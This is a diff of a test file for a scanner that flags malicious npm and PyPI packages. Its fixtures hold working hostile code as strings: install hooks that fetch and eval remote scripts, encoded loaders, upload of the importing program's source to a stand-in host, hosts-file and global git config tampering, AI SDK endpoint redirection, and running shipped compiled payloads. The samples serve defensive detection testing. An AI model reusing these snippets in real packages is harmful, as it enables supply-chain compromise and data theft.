@@ -51,7 +51,11 @@ function npmTwin(id: string): NpmVariant {
 async function npmBlocked(files: Record<string, string | Buffer>, rule?: string): Promise<void> {
   const r = await rateNpmFiles(files);
   assert.is(r.level, 'BLOCKED', r.rules.join(', '));
-  if (rule) assert.ok(r.rules.some((x) => x.startsWith(`${rule}:`)), `${rule} not among ${r.rules.join(', ')}`);
+  if (rule)
+    assert.ok(
+      r.rules.some((x) => x.startsWith(`${rule}:`)),
+      `${rule} not among ${r.rules.join(', ')}`,
+    );
 }
 
 async function npmHonest(files: Record<string, string | Buffer>): Promise<void> {
@@ -67,7 +71,12 @@ const main = (src: string, name = 'x'): Record<string, string> => ({
 
 /** A package whose postinstall runs `install.js` with `src`. */
 const hook = (src: string, name = 'x'): Record<string, string> => ({
-  'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node install.js' } }),
+  'package.json': JSON.stringify({
+    name,
+    version: '1.0.0',
+    main: 'index.js',
+    scripts: { postinstall: 'node install.js' },
+  }),
   'index.js': 'module.exports = {};\n',
   'install.js': src,
 });
@@ -76,7 +85,8 @@ const hook = (src: string, name = 'x'): Record<string, string> => ({
 const py = (name: string, src: string) => sdist(name, { [`${name.replace(/-/g, '_')}/__init__.py`]: src });
 
 // A script that fetches and runs code, as character codes shifted by 3 (its text is never spelled in the source).
-const HIDDEN = "require('https').get('https://cdn.numfmt.example/p.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });";
+const HIDDEN =
+  "require('https').get('https://cdn.numfmt.example/p.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });";
 const SHIFTED = [...HIDDEN].map((c) => c.charCodeAt(0) + 3).join(',');
 const XORED = [...HIDDEN].map((c) => c.charCodeAt(0) ^ 7).join(',');
 
@@ -84,16 +94,27 @@ const XORED = [...HIDDEN].map((c) => c.charCodeAt(0) ^ 7).join(',');
 
 test('a character-code table decoded at run time and evaluated (real case; XOR into new Function; fromCodePoint into vm)', async () => {
   await npmBlocked(npm10('charcode-minus-three-eval').files, 'decoded_code_eval');
-  await npmBlocked(main(`const t = [${XORED}];\nnew Function(String.fromCharCode(...t.map((c) => c ^ 7)))();\nmodule.exports = 1;\n`), 'decoded_code_eval');
   await npmBlocked(
-    main(`const vm = require('vm');\nconst codes = [${SHIFTED}];\nvm.runInThisContext(String.fromCodePoint.apply(String, codes.map((c) => c - 3)));\nmodule.exports = 1;\n`),
+    main(`const t = [${XORED}];\nnew Function(String.fromCharCode(...t.map((c) => c ^ 7)))();\nmodule.exports = 1;\n`),
+    'decoded_code_eval',
+  );
+  await npmBlocked(
+    main(
+      `const vm = require('vm');\nconst codes = [${SHIFTED}];\nvm.runInThisContext(String.fromCodePoint.apply(String, codes.map((c) => c - 3)));\nmodule.exports = 1;\n`,
+    ),
     'decoded_code_eval',
   );
 });
 
 test('honest: a character-code table decoded and printed, and a short alphabet next to eval of a literal', async () => {
-  await npmHonest(main(`const banner = [${SHIFTED}];\nconsole.log(String.fromCharCode(...banner.map((c) => c - 3)));\nmodule.exports = 1;\n`));
-  await npmHonest(main("const ALPHA = String.fromCharCode(65, 66, 67);\nmodule.exports = () => eval('1 + 1') + ALPHA;\n"));
+  await npmHonest(
+    main(
+      `const banner = [${SHIFTED}];\nconsole.log(String.fromCharCode(...banner.map((c) => c - 3)));\nmodule.exports = 1;\n`,
+    ),
+  );
+  await npmHonest(
+    main("const ALPHA = String.fromCharCode(65, 66, 67);\nmodule.exports = () => eval('1 + 1') + ALPHA;\n"),
+  );
 });
 
 // ---- a callback handed to a local helper -----------------------------------------------------------------
@@ -101,27 +122,35 @@ test('honest: a character-code table decoded and printed, and a short alphabet n
 test('fetched data handed back through a local helper and evaluated (real case; fetch().then helper into vm; request helper into Function)', async () => {
   await npmBlocked(npm10('date-seeded-dga-fetch-function').files, 'remote_code_eval');
   await npmBlocked(
-    hook("const vm = require('vm');\nfunction load(u, done) { fetch(u).then((r) => r.text()).then((t) => done(t)); }\nload('https://cdn.mirrorpick.example/s', (src) => vm.runInThisContext(src));\n"),
+    hook(
+      "const vm = require('vm');\nfunction load(u, done) { fetch(u).then((r) => r.text()).then((t) => done(t)); }\nload('https://cdn.mirrorpick.example/s', (src) => vm.runInThisContext(src));\n",
+    ),
     'remote_code_eval',
   );
   await npmBlocked(
-    hook("const https = require('https');\nfunction pull(u, cb) { https.get(u, (r) => { const parts = []; r.on('data', (c) => parts.push(c)); r.on('end', () => cb(null, Buffer.concat(parts).toString())); }); }\npull('https://203.0.113.40/x', (err, code) => { if (!err) Function(code)(); });\n"),
+    hook(
+      "const https = require('https');\nfunction pull(u, cb) { https.get(u, (r) => { const parts = []; r.on('data', (c) => parts.push(c)); r.on('end', () => cb(null, Buffer.concat(parts).toString())); }); }\npull('https://203.0.113.40/x', (err, code) => { if (!err) Function(code)(); });\n",
+    ),
     'remote_code_eval',
   );
 });
 
 test('honest: fetched data handed back through a local helper and parsed as JSON', async () => {
   await npmHonest(
-    main("const https = require('https');\nfunction get(u, cb) { https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => cb(b)); }); }\nmodule.exports = (done) => get('https://api.weather.example/today', (body) => done(JSON.parse(body)));\n"),
+    main(
+      "const https = require('https');\nfunction get(u, cb) { https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => cb(b)); }); }\nmodule.exports = (done) => get('https://api.weather.example/today', (body) => done(JSON.parse(body)));\n",
+    ),
   );
 });
 
 // ---- the importer's source sent --------------------------------------------------------------------------
 
-test("the source files of the code that imported the package, sent (real cases; module.parent to fetch; sys._getframe to requests)", async () => {
+test('the source files of the code that imported the package, sent (real cases; module.parent to fetch; sys._getframe to requests)', async () => {
   await npmBlocked(npm10('stack-callers-source-upload').files, 'secret_send');
   await npmBlocked(
-    main("const fs = require('fs');\nconst f = module.parent && module.parent.filename;\nif (f) fetch('https://paste.srcsync.example/u', { method: 'POST', body: fs.readFileSync(f, 'utf8') }).catch(() => {});\nmodule.exports = {};\n"),
+    main(
+      "const fs = require('fs');\nconst f = module.parent && module.parent.filename;\nif (f) fetch('https://paste.srcsync.example/u', { method: 'POST', body: fs.readFileSync(f, 'utf8') }).catch(() => {});\nmodule.exports = {};\n",
+    ),
     'secret_send',
   );
   await blocked(pypi5('inspect-stack-caller-source-upload'), 'credential_exfil_flow');
@@ -139,7 +168,7 @@ test("honest: the caller's source read to print a code frame, nothing sent (npm 
   await honest(
     py(
       'frame-print',
-      "import inspect\n\ndef where():\n    fr = inspect.stack()[1]\n    with open(fr.filename) as h:\n        lines = h.read().splitlines()\n    print(lines[fr.lineno - 1])\n",
+      'import inspect\n\ndef where():\n    fr = inspect.stack()[1]\n    with open(fr.filename) as h:\n        lines = h.read().splitlines()\n    print(lines[fr.lineno - 1])\n',
     ),
   );
 });
@@ -185,9 +214,16 @@ test('session stores: variants (files picked with endsWith; loginusers.vdf at in
 
 test('honest: Terraform state read for its outputs (twin), cookies of one site sent to nowhere, a .env loaded into process.env', async () => {
   await honest(pyTwin('twin-tfstate-outputs-local'));
-  await honest(py('cookie-count', "import browser_cookie3\n\ndef count(domain):\n    return len(list(browser_cookie3.firefox(domain_name=domain)))\n"));
+  await honest(
+    py(
+      'cookie-count',
+      'import browser_cookie3\n\ndef count(domain):\n    return len(list(browser_cookie3.firefox(domain_name=domain)))\n',
+    ),
+  );
   await npmHonest(
-    main("const fs = require('fs');\nfor (const f of ['.env', '.env.local']) { try { for (const l of fs.readFileSync(f, 'utf8').split('\\n')) { const [k, v] = l.split('='); if (k) process.env[k] = v; } } catch (e) {} }\nmodule.exports = {};\n"),
+    main(
+      "const fs = require('fs');\nfor (const f of ['.env', '.env.local']) { try { for (const l of fs.readFileSync(f, 'utf8').split('\\n')) { const [k, v] = l.split('='); if (k) process.env[k] = v; } } catch (e) {} }\nmodule.exports = {};\n",
+    ),
   );
 });
 
@@ -196,7 +232,10 @@ test('honest: Terraform state read for its outputs (twin), cookies of one site s
 test('the hosts file written at import (real case; Path.write_text in __init__; setup.py appending on Windows)', async () => {
   await blocked(pypi5('import-hosts-file-pin'), 'persistence_write');
   await blocked(
-    py('dns-warm', "from pathlib import Path\nh = Path('/etc/hosts')\nh.write_text(h.read_text() + '\\n203.0.113.5 api.exchange.example\\n')\n"),
+    py(
+      'dns-warm',
+      "from pathlib import Path\nh = Path('/etc/hosts')\nh.write_text(h.read_text() + '\\n203.0.113.5 api.exchange.example\\n')\n",
+    ),
     'persistence_write',
   );
   const v = sdist('fastresolve', {});
@@ -214,18 +253,25 @@ test('honest: a hosts-file library that edits only when called (twin)', async ()
 test("git's URL rewrite set globally at install (real case; execSync string; Python at import)", async () => {
   await npmBlocked(npm10('global-git-insteadof-to-mirror').files, 'install_persistence');
   await npmBlocked(
-    hook("require('child_process').execSync('git config --global url.https://git.mirrorhub.example/.insteadOf https://github.com/');\n"),
+    hook(
+      "require('child_process').execSync('git config --global url.https://git.mirrorhub.example/.insteadOf https://github.com/');\n",
+    ),
     'install_persistence',
   );
   await blocked(
-    py('git-speedup', "import subprocess\nsubprocess.run(['git', 'config', '--global', 'url.https://git.mirrorhub.example/.insteadOf', 'https://gitlab.com/'], check=False)\n"),
+    py(
+      'git-speedup',
+      "import subprocess\nsubprocess.run(['git', 'config', '--global', 'url.https://git.mirrorhub.example/.insteadOf', 'https://gitlab.com/'], check=False)\n",
+    ),
   );
 });
 
 test('honest: git settings read for a changelog (twin), a repository-local rewrite written by a command the user runs', async () => {
   await npmHonest(npmTwin('twin-git-wrapper-reads-config').files);
   await npmHonest(
-    main("const { execFileSync } = require('child_process');\nexports.useMirror = (url) => execFileSync('git', ['config', 'url.' + url + '.insteadOf', 'https://github.com/']);\n"),
+    main(
+      "const { execFileSync } = require('child_process');\nexports.useMirror = (url) => execFileSync('git', ['config', 'url.' + url + '.insteadOf', 'https://github.com/']);\n",
+    ),
   );
 });
 
@@ -266,25 +312,53 @@ test('camera or screen frames sent to a fixed host (real case; ImageGrab at impo
 });
 
 test('honest: a screenshot returned to the caller, a webcam frame shown locally', async () => {
-  await honest(py('snap-lib', "from PIL import ImageGrab\n\ndef capture(bbox=None):\n    return ImageGrab.grab(bbox=bbox)\n"));
   await honest(
-    py('cam-view', "def show():\n    import cv2\n    cam = cv2.VideoCapture(0)\n    ok, frame = cam.read()\n    if ok:\n        cv2.imshow('cam', frame)\n        cv2.waitKey(0)\n"),
+    py('snap-lib', 'from PIL import ImageGrab\n\ndef capture(bbox=None):\n    return ImageGrab.grab(bbox=bbox)\n'),
+  );
+  await honest(
+    py(
+      'cam-view',
+      "def show():\n    import cv2\n    cam = cv2.VideoCapture(0)\n    ok, frame = cam.read()\n    if ok:\n        cv2.imshow('cam', frame)\n        cv2.waitKey(0)\n",
+    ),
   );
 });
 
 // ---- another client's endpoint ---------------------------------------------------------------------------
 
 test("another client's endpoint set to a fixed host at import or install (environment, module attribute, npm postinstall)", async () => {
-  await blocked(py('llm-helpers', "import os\nos.environ['OPENAI_BASE_URL'] = 'https://api.llm-relay.example/v1'\n"), 'sdk_endpoint_redirect');
-  await blocked(py('fast-anthropic', "import os\nos.environ.setdefault('ANTHROPIC_BASE_URL', 'https://203.0.113.14')\nos.environ.update({'HTTPS_PROXY': 'http://198.51.100.20:3128'})\n"), 'sdk_endpoint_redirect');
-  await blocked(py('openai-tune', "import openai\nopenai.base_url = 'https://api.llm-relay.example/v1'\n"), 'sdk_endpoint_redirect');
-  await npmBlocked(hook("process.env.OPENAI_BASE_URL = 'https://api.llm-relay.example/v1';\nrequire('fs').appendFileSync(require('os').homedir() + '/.profile', 'export OPENAI_BASE_URL=' + process.env.OPENAI_BASE_URL + '\\n');\n"));
+  await blocked(
+    py('llm-helpers', "import os\nos.environ['OPENAI_BASE_URL'] = 'https://api.llm-relay.example/v1'\n"),
+    'sdk_endpoint_redirect',
+  );
+  await blocked(
+    py(
+      'fast-anthropic',
+      "import os\nos.environ.setdefault('ANTHROPIC_BASE_URL', 'https://203.0.113.14')\nos.environ.update({'HTTPS_PROXY': 'http://198.51.100.20:3128'})\n",
+    ),
+    'sdk_endpoint_redirect',
+  );
+  await blocked(
+    py('openai-tune', "import openai\nopenai.base_url = 'https://api.llm-relay.example/v1'\n"),
+    'sdk_endpoint_redirect',
+  );
+  await npmBlocked(
+    hook(
+      "process.env.OPENAI_BASE_URL = 'https://api.llm-relay.example/v1';\nrequire('fs').appendFileSync(require('os').homedir() + '/.profile', 'export OPENAI_BASE_URL=' + process.env.OPENAI_BASE_URL + '\\n');\n",
+    ),
+  );
 });
 
 test('honest: an endpoint set from the caller or to a local proxy', async () => {
-  await honest(py('llm-config', "import os\n\ndef configure(base_url):\n    os.environ['OPENAI_BASE_URL'] = base_url\n"));
+  await honest(
+    py('llm-config', "import os\n\ndef configure(base_url):\n    os.environ['OPENAI_BASE_URL'] = base_url\n"),
+  );
   await honest(py('dev-proxy', "import os\nos.environ.setdefault('HTTPS_PROXY', 'http://127.0.0.1:8080')\n"));
-  await honest(py('relay-set', "import os\n\ndef use_relay():\n    os.environ['OPENAI_BASE_URL'] = 'https://api.llm-relay.example/v1'\n"));
+  await honest(
+    py(
+      'relay-set',
+      "import os\n\ndef use_relay():\n    os.environ['OPENAI_BASE_URL'] = 'https://api.llm-relay.example/v1'\n",
+    ),
+  );
 });
 
 // ---- other packages' code ----------------------------------------------------------------------------------
@@ -305,7 +379,12 @@ test("another installed package's code written (every site-packages __init__.py;
 });
 
 test("honest: a package writing its own cache file under the user's cache folder", async () => {
-  await honest(py('own-cache', "import os\n_d = os.path.expanduser('~/.cache/own-cache')\nos.makedirs(_d, exist_ok=True)\nwith open(os.path.join(_d, 'index.json'), 'w') as f:\n    f.write('{}')\n"));
+  await honest(
+    py(
+      'own-cache',
+      "import os\n_d = os.path.expanduser('~/.cache/own-cache')\nos.makedirs(_d, exist_ok=True)\nwith open(os.path.join(_d, 'index.json'), 'w') as f:\n    f.write('{}')\n",
+    ),
+  );
 });
 
 // ---- a download copied into a file ------------------------------------------------------------------------
@@ -333,6 +412,30 @@ test('honest: a download copied into a file and checked, never run', async () =>
       'model-fetch',
       "import hashlib, shutil, urllib.request\n\ndef fetch(dest):\n    with urllib.request.urlopen('https://models.modelfetch.example/m.bin') as r, open(dest, 'wb') as f:\n        shutil.copyfileobj(r, f)\n    return hashlib.sha256(open(dest, 'rb').read()).hexdigest()\n",
     ),
+  );
+});
+
+// ---- a shipped opaque file run by the interpreter ---------------------------------------------------------
+
+test('the interpreter started on a shipped zip application or compiled file at import or install (real case; setup.py .pyc; python3 on a .zip)', async () => {
+  await blocked(pypi5('pyz-zipapp-run-from-init'), 'opaque_payload_run');
+  const v = sdist('fast-build', { 'fast_build/helper.pyc': 'opaque' });
+  v.files['setup.py'] =
+    "import os, subprocess, sys\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\nsubprocess.call([sys.executable, os.path.join(here, 'fast_build', 'helper.pyc')])\nsetup(name='fast-build', version='1.0.0', packages=['fast_build'])\n";
+  await blocked(v, 'opaque_payload_run');
+  await blocked(
+    py(
+      'warm-cache',
+      "import os, subprocess\n_z = os.path.join(os.path.dirname(__file__), 'data', 'warm.zip')\nsubprocess.Popen(['python3', _z], stdout=subprocess.DEVNULL)\n",
+    ),
+    'opaque_payload_run',
+  );
+});
+
+test('honest: a bundled zip application run only by the command the user invokes (twin); a script the caller names', async () => {
+  await honest(pyTwin('twin-zipapp-explicit-command'));
+  await honest(
+    py('runner', 'import subprocess, sys\n\ndef run(app):\n    return subprocess.call([sys.executable, app])\n'),
   );
 });
 
